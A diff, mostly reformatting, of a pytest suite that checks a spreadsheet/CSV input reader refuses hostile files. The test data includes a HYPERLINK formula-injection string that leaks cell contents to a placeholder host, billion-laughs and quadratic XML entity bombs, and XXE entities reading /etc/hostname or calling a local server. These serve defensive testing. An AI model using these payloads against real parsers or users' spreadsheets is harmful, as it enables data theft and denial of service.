@@ -20,6 +20,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from files import rewrite_entry, write_csv, write_xlsx
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -27,9 +28,6 @@ from ledger_report import inputs
 from ledger_report.config import COLUMN_NAMES
 from ledger_report.errors import InputError
 from ledger_report.inputs import read_configs
-
-from files import rewrite_entry, write_csv, write_xlsx
-
 
 # --- helpers ---------------------------------------------------------------------------------
 
@@ -57,7 +55,9 @@ SHEET = "xl/worksheets/sheet1.xml"
 # --- INJ-02: error-code and formula text as input ---------------------------------------------
 
 
-@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!", "=1+1", '=HYPERLINK("http://x/?"&A1)', "@SUM(1,1)", "+1+1"])
+@pytest.mark.parametrize(
+    "text", ["#N/A", "#DIV/0!", "#REF!", "=1+1", '=HYPERLINK("http://x/?"&A1)', "@SUM(1,1)", "+1+1"]
+)
 def test_inj02_error_codes_as_input_text(tmp_path, text):
     """INJ-02: names spelling Excel errors or formulas are text, from CSV and from a text cell."""
     quoted = '"' + text.replace('"', '""') + '"'
@@ -79,7 +79,9 @@ def test_inj02_real_error_cell_in_name(tmp_path):
         ws["A2"] = "#N/A"  # openpyxl stores the error code as an error cell
 
     message = error_of(write_xlsx(tmp_path, BASE, setup=as_error))
-    assert_names(message, "Inputs!A2", "row 2", 'column "name"', "cell A2 holds the Excel error #N/A")
+    assert_names(
+        message, "Inputs!A2", "row 2", 'column "name"', "cell A2 holds the Excel error #N/A"
+    )
 
 
 def test_inj06_inj07_control_characters_and_long_text(tmp_path):
@@ -145,7 +147,9 @@ def test_zip03_entry_count_refused_before_any_xml_is_parsed(tmp_path):
     """ZIP-03: the count is checked from zipfile's listing before openpyxl parses a part: a
     workbook with too many entries and an entity bomb in workbook.xml gets the count sentence."""
     path = write_xlsx(tmp_path, BASE)
-    rewrite_entry(path, "xl/workbook.xml", lambda xml: BILLION_LAUGHS.replace(b"worksheet", b"workbook") + xml)
+    rewrite_entry(
+        path, "xl/workbook.xml", lambda xml: BILLION_LAUGHS.replace(b"worksheet", b"workbook") + xml
+    )
     with zipfile.ZipFile(path, "a") as zf:
         for i in range(1000):
             zf.writestr(f"customXml/x{i}.bin", b"")
@@ -186,7 +190,9 @@ def _declare_size(path: Path, entry: str, declared: int) -> None:
 def test_zip04_lying_size_header(tmp_path):
     """ZIP-04: a part declaring 1,000 bytes but holding 3 MB is a corrupt workbook (CRC mismatch)."""
     path = write_xlsx(tmp_path, BASE)
-    rewrite_entry(path, SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 3_000_000))
+    rewrite_entry(
+        path, SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 3_000_000)
+    )
     _declare_size(path, SHEET, 1000)
     assert_names(error_of(path), "inputs.xlsx", "corrupt workbook", "CRC")
 
@@ -243,7 +249,12 @@ def test_zip05_not_a_workbook(tmp_path, make, phrase):
 
 @pytest.mark.parametrize(
     "name,phrase",
-    [("missing.csv", "no such file"), ("inputs.xls", "legacy .xls"), ("inputs.json", "'.json'"), ("inputs.ods", ".ods")],
+    [
+        ("missing.csv", "no such file"),
+        ("inputs.xls", "legacy .xls"),
+        ("inputs.json", "'.json'"),
+        ("inputs.ods", ".ods"),
+    ],
 )
 def test_zip05_paths(tmp_path, name, phrase):
     """A missing file, a legacy .xls and unsupported extensions are InputErrors."""
@@ -263,7 +274,10 @@ def test_zip05_directory(tmp_path):
 
 BILLION_LAUGHS = (
     b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
-    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10) for i in range(1, 10))
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
+        for i in range(1, 10)
+    )
     + b"]>"
 )
 QUADRATIC = b'<!DOCTYPE worksheet [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
@@ -293,7 +307,9 @@ def loopback():
             pass
 
     server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
-    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread = threading.Thread(
+        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
+    )
     thread.start()
     yield server.server_address[1], hits
     server.shutdown()
@@ -317,7 +333,10 @@ def test_xml01_openpyxl_parses_with_the_standard_library_not_lxml():
     assert openpyxl.xml.LXML is False
 
 
-@pytest.mark.parametrize("attack", ["billion-laughs", "quadratic", "xxe-file", "xxe-http", "workbook-part", "styles-part"])
+@pytest.mark.parametrize(
+    "attack",
+    ["billion-laughs", "quadratic", "xxe-file", "xxe-http", "workbook-part", "styles-part"],
+)
 def test_xml01_entity_attacks(tmp_path, loopback, attack):
     """XML-01: every entity attack gets the same sentence (defusedxml's refusal inside openpyxl);
     nothing is fetched from the network."""
@@ -330,9 +349,13 @@ def test_xml01_entity_attacks(tmp_path, loopback, attack):
     elif attack == "quadratic":
         change = _with_doctype(QUADRATIC, b"&a;" * 2000)
     elif attack == "xxe-file":
-        change = _with_doctype(b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>', b"&x;")
+        change = _with_doctype(
+            b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>', b"&x;"
+        )
     elif attack == "xxe-http":
-        change = _with_doctype(b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "http://127.0.0.1:%d/x">]>' % port, b"&x;")
+        change = _with_doctype(
+            b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "http://127.0.0.1:%d/x">]>' % port, b"&x;"
+        )
     elif attack == "styles-part":
         entry = "xl/styles.xml"
         change = lambda xml: b'<!DOCTYPE styleSheet [<!ENTITY x "y">]>' + xml  # noqa: E731
@@ -341,7 +364,9 @@ def test_xml01_entity_attacks(tmp_path, loopback, attack):
         change = lambda xml: b'<!DOCTYPE workbook [<!ENTITY x "y">]>' + xml  # noqa: E731
     rewrite_entry(path, entry, change)
     message = error_of(path)
-    assert_names(message, "inputs.xlsx", "workbook contains XML entity declarations; refusing to read")
+    assert_names(
+        message, "inputs.xlsx", "workbook contains XML entity declarations; refusing to read"
+    )
     assert hits == []
 
 
@@ -352,7 +377,15 @@ def test_wb02_duplicate_header_after_normalisation(tmp_path):
     """WB-02: `params_total`, ` Params_Total ` and the full-width spelling are one column twice."""
     rows = [["name", "params_total", " Params_Total ", "ｐａｒａｍｓ＿ｔｏｔａｌ"], ["m", 1, 2, 3]]
     message = error_of(write_xlsx(tmp_path, rows))
-    assert_names(message, "row 1", 'column "params_total"', "column B", "column C", "column D", "each column once")
+    assert_names(
+        message,
+        "row 1",
+        'column "params_total"',
+        "column B",
+        "column C",
+        "column D",
+        "each column once",
+    )
     message = error_of(write_csv(tmp_path, "name,dp, DP\nm,1,2\n"))
     assert_names(message, "line 1", 'column "dp"', "field 2 (B)", "field 3 (C)")
 
@@ -376,8 +409,11 @@ def test_wb03_unknown_columns_named_with_suggestions(tmp_path):
     """WB-03: unknown columns are one error naming all of them, with a suggestion."""
     message = error_of(write_csv(tmp_path, "name,parms_total,dpp,colour\nm,7B,1,red\n"))
     assert_names(
-        message, "line 1", '"parms_total" in field 2 (B) (did you mean "params_total"?)',
-        '"dpp" in field 3 (C)', '"colour" in field 4 (D)',
+        message,
+        "line 1",
+        '"parms_total" in field 2 (B) (did you mean "params_total"?)',
+        '"dpp" in field 3 (C)',
+        '"colour" in field 4 (D)',
     )
     assert message.count("\n") == 0
 
@@ -408,9 +444,22 @@ def test_wb05_blank_rows_keep_excel_row_numbers(tmp_path):
 
 def test_wb06_formula_without_saved_value(tmp_path):
     """WB-06: a formula with no cached result names the cell; never NaN or a default."""
-    rows = [["name", "params_total", "tokens", "dp", "tp"], ["a", 1, 2, 1, 1], ["b", 1, 2, 1, 1], ["c", 1, 2, 1, 1], ["d", 7, 1, "=B5*2", 1]]
+    rows = [
+        ["name", "params_total", "tokens", "dp", "tp"],
+        ["a", 1, 2, 1, 1],
+        ["b", 1, 2, 1, 1],
+        ["c", 1, 2, 1, 1],
+        ["d", 7, 1, "=B5*2", 1],
+    ]
     message = error_of(write_xlsx(tmp_path, rows))
-    assert_names(message, "Inputs!D5", "row 5", 'column "dp"', "cell D5 holds a formula with no saved value", "=B5*2")
+    assert_names(
+        message,
+        "Inputs!D5",
+        "row 5",
+        'column "dp"',
+        "cell D5 holds a formula with no saved value",
+        "=B5*2",
+    )
 
 
 def test_wb06_formula_with_saved_value_and_saved_empty_string(tmp_path):
@@ -418,8 +467,11 @@ def test_wb06_formula_with_saved_value_and_saved_empty_string(tmp_path):
     rows = [["name", "params_total", "dp", "notes"], ["a", 7, "=1+1", '=""']]
     path = write_xlsx(tmp_path, rows)
     rewrite_entry(
-        path, SHEET,
-        lambda xml: xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>").replace(b'<c r="D2"><f>""</f><v />', b'<c r="D2" t="str"><f>""</f><v />'),
+        path,
+        SHEET,
+        lambda xml: xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>").replace(
+            b'<c r="D2"><f>""</f><v />', b'<c r="D2" t="str"><f>""</f><v />'
+        ),
     )
     (config,) = read_configs(path)
     assert config.get("dp") == 2 and config.get("notes") is None
@@ -428,17 +480,34 @@ def test_wb06_formula_with_saved_value_and_saved_empty_string(tmp_path):
 @pytest.mark.parametrize("code", ["#DIV/0!", "#N/A", "#REF!", "#VALUE!"])
 def test_wb07_error_cells(tmp_path, code):
     """WB-07: Excel error values in number columns name the cell and the error."""
-    rows = [["name", "params_total", "dp", "tp", "mfu"], ["a", 7, 1, 1, 0.4], ["b", 7, 1, 1, 0.4], ["c", 7, 1, 1, 0.4], ["d", 7, 1, 1, code]]
+    rows = [
+        ["name", "params_total", "dp", "tp", "mfu"],
+        ["a", 7, 1, 1, 0.4],
+        ["b", 7, 1, 1, 0.4],
+        ["c", 7, 1, 1, 0.4],
+        ["d", 7, 1, 1, code],
+    ]
     message = error_of(write_xlsx(tmp_path, rows))
-    assert_names(message, "Inputs!E5", "row 5", 'column "mfu"', f"cell E5 holds the Excel error {code}")
+    assert_names(
+        message, "Inputs!E5", "row 5", 'column "mfu"', f"cell E5 holds the Excel error {code}"
+    )
 
 
-@pytest.mark.parametrize("value", [dt.datetime(2026, 3, 8), dt.date(2026, 1, 2)], ids=["datetime", "date"])
+@pytest.mark.parametrize(
+    "value", [dt.datetime(2026, 3, 8), dt.date(2026, 1, 2)], ids=["datetime", "date"]
+)
 def test_wb08_dates_in_number_columns(tmp_path, value):
     """WB-08: a date where a number belongs says Excel may have converted the text."""
     rows = [["name", "params_total", "tp"], ["m", 7, value]]
     message = error_of(write_xlsx(tmp_path, rows))
-    assert_names(message, "Inputs!C2", "row 2", 'column "tp"', f"a date {value:%Y-%m-%d}", "Excel may have converted")
+    assert_names(
+        message,
+        "Inputs!C2",
+        "row 2",
+        'column "tp"',
+        f"a date {value:%Y-%m-%d}",
+        "Excel may have converted",
+    )
 
 
 def _many_rows(tmp_path: Path, n: int) -> Path:
@@ -449,7 +518,11 @@ def _many_rows(tmp_path: Path, n: int) -> Path:
 def test_wb09_understated_dimension_reads_every_row(tmp_path):
     """WB-09 / finding 4: `<dimension ref="A1:B2">` on a 300-row sheet still gives 300 rows."""
     path = _many_rows(tmp_path, 300)
-    rewrite_entry(path, SHEET, lambda xml: xml.replace(b'<dimension ref="A1:B301" />', b'<dimension ref="A1:B2" />'))
+    rewrite_entry(
+        path,
+        SHEET,
+        lambda xml: xml.replace(b'<dimension ref="A1:B301" />', b'<dimension ref="A1:B2" />'),
+    )
     assert b'ref="A1:B2"' in zipfile.ZipFile(path).read(SHEET)
     assert len(read_configs(path)) == 300
 
@@ -458,9 +531,13 @@ def test_wb09_overstated_dimension_and_far_cell_fast(tmp_path):
     """WB-09: `A1:XFD1048576` and a formatted empty XFD cell neither pad rows nor slow the read."""
     path = _many_rows(tmp_path, 200)
     rewrite_entry(
-        path, SHEET,
-        lambda xml: xml.replace(b'<dimension ref="A1:B201" />', b'<dimension ref="A1:XFD1048576" />')
-        .replace(b'<c r="B2" t="n"><v>7</v></c>', b'<c r="B2" t="n"><v>7</v></c><c r="XFD2" s="0" />'),
+        path,
+        SHEET,
+        lambda xml: xml.replace(
+            b'<dimension ref="A1:B201" />', b'<dimension ref="A1:XFD1048576" />'
+        ).replace(
+            b'<c r="B2" t="n"><v>7</v></c>', b'<c r="B2" t="n"><v>7</v></c><c r="XFD2" s="0" />'
+        ),
     )
     start = time.perf_counter()
     configs = read_configs(path)
@@ -488,10 +565,16 @@ def test_wb09_rows_padded_to_a_far_cell_are_bounded(tmp_path, monkeypatch):
     path = _many_rows(tmp_path, 20)
 
     def far_cells(xml: bytes) -> bytes:
-        return re.sub(rb'(<row r="(\d+)"[^>]*>.*?)</row>', lambda m: m.group(1) + b'<c r="XFD' + m.group(2) + b'" s="0" /></row>', xml)
+        return re.sub(
+            rb'(<row r="(\d+)"[^>]*>.*?)</row>',
+            lambda m: m.group(1) + b'<c r="XFD' + m.group(2) + b'" s="0" /></row>',
+            xml,
+        )
 
     rewrite_entry(path, SHEET, far_cells)
-    assert_names(error_of(path), "row 7", "at most 100,000 cells", "column XFD", "delete the unused columns")
+    assert_names(
+        error_of(path), "row 7", "at most 100,000 cells", "column XFD", "delete the unused columns"
+    )
     monkeypatch.setattr(inputs, "MAX_SHEET_CELLS", 20_000_000)
     assert len(read_configs(path)) == 20
 
@@ -508,7 +591,13 @@ def test_wb06_formula_without_saved_value_after_blank_and_formatted_rows(tmp_pat
     path = write_xlsx(tmp_path, rows, setup=setup)
     rewrite_entry(path, SHEET, lambda xml: xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>"))
     message = error_of(path)
-    assert_names(message, "Inputs!C9", "row 9", 'column "dp"', "cell C9 holds a formula with no saved value (=B9+1)")
+    assert_names(
+        message,
+        "Inputs!C9",
+        "row 9",
+        'column "dp"',
+        "cell C9 holds a formula with no saved value (=B9+1)",
+    )
     assert message.count("\n") == 0
 
 
@@ -529,14 +618,18 @@ def test_wb10_row_bound_csv(tmp_path, monkeypatch):
 def test_wb_empty_sheet_and_header_only(tmp_path):
     """An empty sheet or a header with no rows is an error, not an empty report."""
     assert_names(error_of(write_xlsx(tmp_path, [])), "row 1", "an empty sheet")
-    assert_names(error_of(write_xlsx(tmp_path, [["name", "params_total"]])), "at least one configuration row")
+    assert_names(
+        error_of(write_xlsx(tmp_path, [["name", "params_total"]])), "at least one configuration row"
+    )
 
 
 def test_wb_only_hidden_sheets(tmp_path):
     """A workbook whose sheets are all hidden has nothing to read."""
 
     path = write_xlsx(tmp_path, BASE)  # openpyxl will not save an all-hidden workbook; patch it
-    rewrite_entry(path, "xl/workbook.xml", lambda xml: xml.replace(b'state="visible"', b'state="hidden"'))
+    rewrite_entry(
+        path, "xl/workbook.xml", lambda xml: xml.replace(b'state="visible"', b'state="hidden"')
+    )
     assert b'state="hidden"' in zipfile.ZipFile(path).read("xl/workbook.xml")
     assert_names(error_of(path), "only hidden sheets")
 
@@ -586,7 +679,12 @@ def test_csv04_short_rows_are_an_error(tmp_path):
 def test_csv05_na_names(tmp_path):
     """CSV-05: NA, None, null, N/A stay names."""
     text = "name,params_total\nNA,1\nNone,1\nnull,1\nN/A,1\n"
-    assert [c.name for c in read_configs(write_csv(tmp_path, text))] == ["NA", "None", "null", "N/A"]
+    assert [c.name for c in read_configs(write_csv(tmp_path, text))] == [
+        "NA",
+        "None",
+        "null",
+        "N/A",
+    ]
 
 
 def test_csv06_semicolon_with_decimal_commas_is_clear(tmp_path):
@@ -656,9 +754,17 @@ def test_num03_bad_counts(tmp_path, cell, phrase):
 )
 def test_num03_bad_count_cells(tmp_path, value, phrase):
     """NUM-03: workbook cells that are booleans, infinite number cells, too large or fractional."""
-    path = write_xlsx(tmp_path, [["name", "params_total"], ["m", 1 if isinstance(value, str) else value]])
+    path = write_xlsx(
+        tmp_path, [["name", "params_total"], ["m", 1 if isinstance(value, str) else value]]
+    )
     if isinstance(value, str):  # openpyxl cannot write inf; a hostile file can
-        rewrite_entry(path, SHEET, lambda xml: xml.replace(b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>' + value.encode() + b"</v>"))
+        rewrite_entry(
+            path,
+            SHEET,
+            lambda xml: xml.replace(
+                b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>' + value.encode() + b"</v>"
+            ),
+        )
     message = error_of(path)
     assert_names(message, "Inputs!B2", "row 2", 'column "params_total"', phrase)
 
@@ -666,7 +772,11 @@ def test_num03_bad_count_cells(tmp_path, value, phrase):
 def test_num03_nan_cell_is_a_clean_error(tmp_path):
     """A number cell holding `NaN` (no Excel writes it) is refused by openpyxl; still an InputError."""
     path = write_xlsx(tmp_path, [["name", "params_total"], ["m", 1]])
-    rewrite_entry(path, SHEET, lambda xml: xml.replace(b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>NaN</v>'))
+    rewrite_entry(
+        path,
+        SHEET,
+        lambda xml: xml.replace(b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>NaN</v>'),
+    )
     assert_names(error_of(path), "inputs.xlsx", "could not be read", "NaN")
 
 
@@ -700,13 +810,25 @@ def test_num05_column_domains(tmp_path, column, cell, phrase):
 
 def test_num05_mfu_forms(tmp_path):
     """NUM-05: 0.4, "40%" and a 0%-formatted 0.4 are all 0.4; a number cell 40 asks about 40%."""
-    configs = read_configs(write_csv(tmp_path, "name,params_total,mfu\na,1,0.4\nb,1,40%\nc,1, 40 % \n"))
+    configs = read_configs(
+        write_csv(tmp_path, "name,params_total,mfu\na,1,0.4\nb,1,40%\nc,1, 40 % \n")
+    )
     assert [c.get("mfu") for c in configs] == [0.4, 0.4, 0.4]
     message = error_of(write_xlsx(tmp_path, [["name", "params_total", "mfu"], ["m", 1, 40]]))
     assert_names(message, "Inputs!C2", 'column "mfu"', "found 40", "did you mean 40%?")
 
 
-@pytest.mark.parametrize("cell,canonical", [("bf16", "bf16"), ("BF16 ", "bf16"), ("bfloat16", "bf16"), ("float8_e4m3fn", "fp8"), ("FP32", "fp32"), ("Float16", "fp16")])
+@pytest.mark.parametrize(
+    "cell,canonical",
+    [
+        ("bf16", "bf16"),
+        ("BF16 ", "bf16"),
+        ("bfloat16", "bf16"),
+        ("float8_e4m3fn", "fp8"),
+        ("FP32", "fp32"),
+        ("Float16", "fp16"),
+    ],
+)
 def test_num06_dtype_aliases(tmp_path, cell, canonical):
     """NUM-06: dtype spellings map to canonical names."""
     (config,) = read_configs(write_csv(tmp_path, f"name,params_total,weight_dtype\nm,7B,{cell}\n"))
@@ -717,20 +839,37 @@ def test_num06_dtype_aliases(tmp_path, cell, canonical):
 def test_num06_unknown_dtype(tmp_path, cell):
     """NUM-06: an unknown dtype lists the accepted names."""
     message = error_of(write_csv(tmp_path, f"name,params_total,weight_dtype\nm,7B,{cell}\n"))
-    assert_names(message, "line 2", 'column "weight_dtype"', f'"{cell}"', "one of fp32, bf16, fp16, fp8")
+    assert_names(
+        message, "line 2", 'column "weight_dtype"', f'"{cell}"', "one of fp32, bf16, fp16, fp8"
+    )
 
 
 def test_unknown_gpu_lists_catalogue(tmp_path):
     """An unknown GPU names the catalogue, what would describe it, and suggests the nearest one."""
     message = error_of(write_csv(tmp_path, "name,params_total,gpu\nm,7B,H100-SMX\n"))
-    assert_names(message, "line 2", 'column "gpu"', "H100-SMX is not in the catalogue", "ledger-report gpus",
-                 "hbm_gb = empty, peak_tflops = empty", "did you mean H100-SXM?")
+    assert_names(
+        message,
+        "line 2",
+        'column "gpu"',
+        "H100-SMX is not in the catalogue",
+        "ledger-report gpus",
+        "hbm_gb = empty, peak_tflops = empty",
+        "did you mean H100-SXM?",
+    )
 
 
 def test_problems_are_collected(tmp_path):
     """All bad cells of all rows are reported together."""
     message = error_of(write_csv(tmp_path, "name,params_total,dp\na,x,1\nb,7B,0\n,7B,1\n"))
-    assert_names(message, "line 2", "line 3", "line 4", 'column "params_total"', 'column "dp"', 'column "name"')
+    assert_names(
+        message,
+        "line 2",
+        "line 3",
+        "line 4",
+        'column "params_total"',
+        'column "dp"',
+        'column "name"',
+    )
 
 
 def test_duplicate_names_name_both_rows(tmp_path):
@@ -743,8 +882,18 @@ def test_duplicate_names_name_both_rows(tmp_path):
 
 CROSS = [
     # id, extra columns, column named, found text
-    ("arch-partial", {"params_total": "", "layers": 32, "hidden": 4096}, "heads", "heads empty, params_total empty"),
-    ("no-params", {"params_total": ""}, "params_total", "params_total and all the architecture columns empty"),
+    (
+        "arch-partial",
+        {"params_total": "", "layers": 32, "hidden": 4096},
+        "heads",
+        "heads empty, params_total empty",
+    ),
+    (
+        "no-params",
+        {"params_total": ""},
+        "params_total",
+        "params_total and all the architecture columns empty",
+    ),
     ("ep-divides", {"dp": 4, "tp": 2, "ep": 3}, "ep", "ep = 3"),
     ("etp-divides", {"dp": 3, "etp": 2}, "etp", "etp = 2"),
     ("experts-by-ep", {"dp": 8, "ep": 8, "experts": 12, "topk": 2}, "experts", "experts = 12"),
@@ -756,16 +905,62 @@ CROSS = [
     ("kv-divides-heads", {"heads": 32, "kv_heads": 5}, "kv_heads", "kv_heads = 5"),
     ("hidden-by-heads", {"hidden": 4000, "heads": 48}, "hidden", "hidden = 4,000"),
     ("pp-layers", {"layers": 2, "pp": 4}, "pp", "pp = 4"),
-    ("seq-sp", {"seq_len": 1000, "tp": 8, "cp": 2, "sequence_parallel": "true"}, "seq_len", "seq_len = 1,000"),
-    ("params-contradict", {"layers": 80, "hidden": 8192, "heads": 64, "kv_heads": 8, "ffn_hidden": 28672, "vocab": 128256, "params_total": "7B"}, "params_total", "params_total = 7,000,000,000"),
+    (
+        "seq-sp",
+        {"seq_len": 1000, "tp": 8, "cp": 2, "sequence_parallel": "true"},
+        "seq_len",
+        "seq_len = 1,000",
+    ),
+    (
+        "params-contradict",
+        {
+            "layers": 80,
+            "hidden": 8192,
+            "heads": 64,
+            "kv_heads": 8,
+            "ffn_hidden": 28672,
+            "vocab": 128256,
+            "params_total": "7B",
+        },
+        "params_total",
+        "params_total = 7,000,000,000",
+    ),
     ("cp-seq", {"seq_len": 8192, "cp": 3}, "cp", "cp = 3"),
     ("ep-dense", {"dp": 2, "ep": 2}, "ep", "ep = 2"),
-    ("tp-ffn", {"layers": 32, "hidden": 4096, "heads": 32, "ffn_hidden": 14337, "vocab": 32000, "tp": 2, "params_total": ""}, "tp", "tp = 2"),
-    ("global-batch", {"global_batch": 100, "micro_batch": 2, "dp": 8}, "global_batch", "global_batch = 100"),
+    (
+        "tp-ffn",
+        {
+            "layers": 32,
+            "hidden": 4096,
+            "heads": 32,
+            "ffn_hidden": 14337,
+            "vocab": 32000,
+            "tp": 2,
+            "params_total": "",
+        },
+        "tp",
+        "tp = 2",
+    ),
+    (
+        "global-batch",
+        {"global_batch": 100, "micro_batch": 2, "dp": 8},
+        "global_batch",
+        "global_batch = 100",
+    ),
     ("expert-gt-total", {"params_expert": "8B"}, "params_expert", "params_expert = 8,000,000,000"),
     ("active-gt-total", {"params_active": "9B"}, "params_active", "params_active = 9,000,000,000"),
-    ("per-rank-no-total", {"params_total": "", "params_per_rank": "1B", "dp": 2, "ep": 2}, "params_per_rank", "ep = 2 with params_total empty"),
-    ("per-rank-unsolvable", {"params_per_rank": "1B", "dp": 2, "tp": 2, "ep": 2, "etp": 1}, "params_per_rank", "ep·etp = 2·1 = 2 = tp"),
+    (
+        "per-rank-no-total",
+        {"params_total": "", "params_per_rank": "1B", "dp": 2, "ep": 2},
+        "params_per_rank",
+        "ep = 2 with params_total empty",
+    ),
+    (
+        "per-rank-unsolvable",
+        {"params_per_rank": "1B", "dp": 2, "tp": 2, "ep": 2, "etp": 1},
+        "params_per_rank",
+        "ep·etp = 2·1 = 2 = tp",
+    ),
     ("megatron-zero2", {"framework": "megatron", "zero": 2}, "zero", "zero = 2"),
     ("reserve-days", {"days": 30, "reserve_days": 30}, "reserve_days", "reserve_days = 30"),
 ]
@@ -777,7 +972,15 @@ def test_cross_column_contradictions(tmp_path, extra, column, found):
     row = {"name": "m", "params_total": "7B", **extra}
     if {"layers", "hidden", "heads"} & set(extra) and column not in ("heads", "params_total"):
         # complete the architecture (Llama-2-7B's, which counts its own parameters)
-        row = {"layers": 32, "hidden": 4096, "heads": 32, "ffn_hidden": 11008, "vocab": 32000, **row, "params_total": ""}
+        row = {
+            "layers": 32,
+            "hidden": 4096,
+            "heads": 32,
+            "ffn_hidden": 11008,
+            "vocab": 32000,
+            **row,
+            "params_total": "",
+        }
     text = ",".join(row) + "\n" + ",".join(str(v) for v in row.values()) + "\n"
     message = error_of(write_csv(tmp_path, text))
     assert_names(message, "line 2", f'column "{column}"', found)
@@ -807,13 +1010,36 @@ CELLS = st.one_of(
     st.text(max_size=12),
     st.integers(min_value=-(10**20), max_value=10**20).map(str),
     st.floats(allow_nan=True, allow_infinity=True).map(repr),
-    st.sampled_from(["", "NA", "7B", "1,024", "3,5", "40%", "true", "bf16", "#N/A", "=1+1", "1e400", "０x1", "８Ｂ", " ", '"', "\x00"]),
+    st.sampled_from(
+        [
+            "",
+            "NA",
+            "7B",
+            "1,024",
+            "3,5",
+            "40%",
+            "true",
+            "bf16",
+            "#N/A",
+            "=1+1",
+            "1e400",
+            "０x1",
+            "８Ｂ",
+            " ",
+            '"',
+            "\x00",
+        ]
+    ),
 )
 HEADERS = st.lists(st.sampled_from(COLUMN_NAMES + ("bogus", "", " Name ")), min_size=1, max_size=8)
 
 
 @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(header=HEADERS, rows=st.lists(st.lists(CELLS, max_size=9), max_size=5), delimiter=st.sampled_from([",", ";", "\t"]))
+@given(
+    header=HEADERS,
+    rows=st.lists(st.lists(CELLS, max_size=9), max_size=5),
+    delimiter=st.sampled_from([",", ";", "\t"]),
+)
 def test_hypothesis_csv_only_input_error(header, rows, delimiter):
     """Random text/number cells in random columns never raise anything but InputError."""
     import csv
